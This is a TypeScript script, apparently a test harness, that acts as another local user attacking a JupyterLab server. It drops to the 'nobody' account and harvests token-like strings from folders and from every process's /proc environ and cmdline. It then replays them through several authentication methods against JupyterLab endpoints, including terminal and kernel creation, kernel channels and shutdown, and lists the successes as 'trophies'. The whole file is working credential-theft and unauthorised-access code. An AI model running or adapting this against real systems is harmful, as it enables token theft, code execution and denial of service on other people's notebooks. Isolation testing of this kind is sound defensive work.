import fs from "node:fs";
import path from "node:path";

/** What another user of the machine knows of a JupyterLab. */
export interface Site {
  readonly address: string;
  /** Where it may look for a token, besides the processes of the machine. */
  readonly folders: readonly string[];
  /** The kernel that the analyst works in. */
  readonly kernel: string;
  /** The token, for one who was told; otherwise it tries those it finds. */
  readonly token?: string;
}

export interface Trophies {
  readonly user: number | undefined;
  /** What looked like a token, in files and processes. */
  readonly found: readonly string[];
  /** What was answered as if to the analyst, `GET /api/contents` and the like. */
  readonly reached: readonly string[];
}

const NOBODY = 65534;

/** What only the analyst may ask. */
const REQUESTS = (kernel: string): readonly [string, string, string?][] => [
  ["GET", "/lab"],
  ["GET", "/tree"],
  ["GET", "/files/package.json"],
  ["GET", "/nbconvert/html/notebooks/analysis.ipynb"],
  ["GET", "/metrics"],
  ["GET", "/api/me?permissions={}"],
  ["GET", "/api/status"],
  ["GET", "/api/contents"],
  ["GET", "/api/config/notebook"],
  ["GET", "/api/sessions"],
  ["GET", "/api/kernels"],
  ["POST", "/api/kernels", '{"name":"tslab"}'],
  ["POST", `/api/kernels/${kernel}/interrupt`],
  ["GET", `/api/kernels/${kernel}/channels`],
  ["GET", "/api/terminals"],
  ["POST", "/api/terminals", "{}"],
  ["GET", "/lab/api/settings"],
  ["GET", "/lab/api/workspaces"],
  ["GET", "/lsp/status"],
  ["POST", "/api/security/csp-report", "{}"],
  ["POST", "/api/shutdown"],
];

async function attack({ address, folders, kernel, token: told }: Site): Promise<Trophies> {
  const found = [...new Set([...folders.flatMap(filesBelow), ...processFiles()].flatMap(tokensIn))];
  const reached: string[] = [];
  for (const token of told === undefined ? ["", "wrong", ...found] : [told]) {
    const ways: [string, Record<string, string>][] = [
      ["", { authorization: `token ${token}` }],
      ["", { authorization: `Bearer ${token}` }],
      [`?token=${token}`, {}],
      ["", { authorization: `Basic ${Buffer.from(`:${token}`).toString("base64")}` }],
      ["", await cookiesOf(address, token)],
    ];
    for (const [method, place, body] of REQUESTS(kernel)) {
      for (const [query, headers] of ways) {
        const url = new URL(place, address);
        if (query) url.search += `${url.search ? "&" : "?"}${query.slice(1)}`;
        const isSocket = place.endsWith("/channels");
        // No answer at all comes after a shutdown only.
        const answer = await fetch(url, { method, headers, body, redirect: "manual" }).catch(() => undefined);
        // A socket that is let in is asked to upgrade.
        const isIn = answer && (answer.ok || (isSocket && answer.status === 400));
        if (isIn) reached.push(`${method} ${place}`);
      }
    }
  }
  return { user: process.getuid?.(), found, reached: [...new Set(reached)] };
}

/** The headers of one who has logged in with a password. */
async function cookiesOf(address: string, password: string): Promise<Record<string, string>> {
  const form = await fetch(new URL("/login", address));
  const xsrf = /_xsrf=([^;]+)/.exec(form.headers.getSetCookie().join("; "))?.[1] ?? "";
  const login = await fetch(new URL("/login", address), {
    method: "POST",
    redirect: "manual",
    headers: { cookie: `_xsrf=${xsrf}` },
    body: new URLSearchParams({ password, _xsrf: xsrf }),
  });
  const cookies = login.headers.getSetCookie().map((cookie) => cookie.split(";")[0]);
  return { cookie: [`_xsrf=${xsrf}`, ...cookies].join("; "), "X-XSRFToken": xsrf };
}

function filesBelow(folder: string): string[] {
  try {
    return fs.readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
      const place = path.join(folder, entry.name);
      if (entry.isDirectory())
        return ["node_modules", "lib", ".git"].includes(entry.name) ? [] : filesBelow(place);
      return entry.isFile() ? [place] : [];
    });
  } catch {
    return []; // not for this user, or gone
  }
}

function processFiles(): string[] {
  const pids = fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name));
  return pids.flatMap((pid) => ["cmdline", "environ"].map((name) => `/proc/${pid}/${name}`));
}

function tokensIn(file: string): string[] {
  try {
    if (fs.statSync(file).size > 1_000_000) return [];
    return fs.readFileSync(file, "latin1").match(/(?<![0-9a-f])[0-9a-f]{48}(?![0-9a-f])/g) ?? [];
  } catch {
    return [];
  }
}

process.setgroups?.([]);
process.setgid?.(NOBODY);
process.setuid?.(NOBODY);
void attack(JSON.parse(process.argv[2] ?? "")).then((trophies) => {
  fs.writeSync(1, JSON.stringify(trophies));
});
